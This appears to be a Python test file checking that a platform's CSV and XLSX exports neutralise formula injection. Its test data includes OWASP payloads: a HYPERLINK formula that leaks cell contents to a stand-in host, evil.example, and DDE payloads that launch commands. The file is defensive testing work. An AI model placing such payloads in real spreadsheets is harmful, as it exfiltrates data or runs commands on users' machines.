"""Every CSV and XLSX the platform writes holds no cell a spreadsheet program would run."""

from __future__ import annotations

import csv
import io
import re
from datetime import date

import openpyxl
import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from crrt.core.spreadsheets import FORMULA_STARTS, QUOTE, csv_text, neutralise, restore, xlsx_bytes

# The payloads of OWASP's "CSV Injection" page, and the characters it lists.
OWASP = [
    "=1+2",
    "=HYPERLINK(\"http://evil.example?leak=\"&A1&A2, \"Error: please click for details\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
]


@pytest.mark.parametrize("value", OWASP)
def test_a_cell_that_would_run_gets_a_leading_quote(value):
    assert neutralise(value) == QUOTE + value


@pytest.mark.parametrize("value", ["Kadri Saar", "", " =1+2", "a=1", "'=1", "1-2", "€=x"])
def test_other_text_is_written_as_it_is(value):
    assert neutralise(value) == value


def test_numbers_and_dates_cannot_be_formulas_and_pass_unchanged():
    assert [neutralise(v) for v in (-5, -1.5, date(2027, 1, 1), None)] == \
        [-5, -1.5, date(2027, 1, 1), None]


def test_a_csv_quotes_every_cell_and_neutralises_after_a_separator_inside_one():
    row = ["a,=1+1", "b;=1+1", 'say "=1"', "=1+2", "x\n@SUM(1)", 'c;"=1+1"', -5, None]
    text = csv_text([row])
    assert text == ('"a,\'=1+1","b;\'=1+1","say ""=1""","\'=1+2","x\n\'@SUM(1)",'
                    '"c;\'""=1+1""","-5",""\r\n')
    assert next(csv.reader(io.StringIO(text))) == [
        "a,'=1+1", "b;'=1+1", 'say "=1"', "'=1+2", "x\n'@SUM(1)", "c;'\"=1+1\"", "-5", ""]
    # Read as a program set to a semicolon locale does, and breaking rows at every line end:
    for delimiter in ",;":
        for source in (io.StringIO(text), text.splitlines()):
            for cells in csv.reader(source, delimiter=delimiter):
                starts = [c for c in cells if c.startswith(FORMULA_STARTS) and c != "-5"]
                assert starts == [], (delimiter, cells)


def test_what_the_platform_wrote_reads_back_as_it_was():
    row = ["=1+2", "b;=1+1", "x\n@SUM(1)", 'c;"=1+1"', "\r=1", "+372 5550 1101"]
    assert [restore(cell) for cell in next(csv.reader(io.StringIO(csv_text([row]))))] == row


@pytest.mark.parametrize("value", OWASP)
def test_an_xlsx_holds_the_payload_as_text_not_as_a_formula(value):
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([[value, 3]]))).active
    cell = sheet.cell(row=1, column=1)
    # (XML reads a carriage return back as a line feed)
    assert (cell.data_type, cell.value) == ("s", QUOTE + value.replace("\r", "\n"))
    assert sheet.cell(row=1, column=2).value == 3


def test_an_xlsx_replaces_control_characters_it_cannot_hold():
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([["bell\x07"]]))).active
    assert sheet.cell(row=1, column=1).value == "bell\ufffd"


@given(st.text(alphabet=st.sampled_from("=+-@\t\r\n\0,;'\"ab")))
def test_any_text_written_reads_back_as_it_was(value):
    assume(not re.search(r"""(^|[,;\n\r])'[=+\-@\t\r\0"]""", value))  # ours to remove
    [[cell]] = csv.reader(io.StringIO(csv_text([[value]]), newline=""))
    assert restore(cell) == value
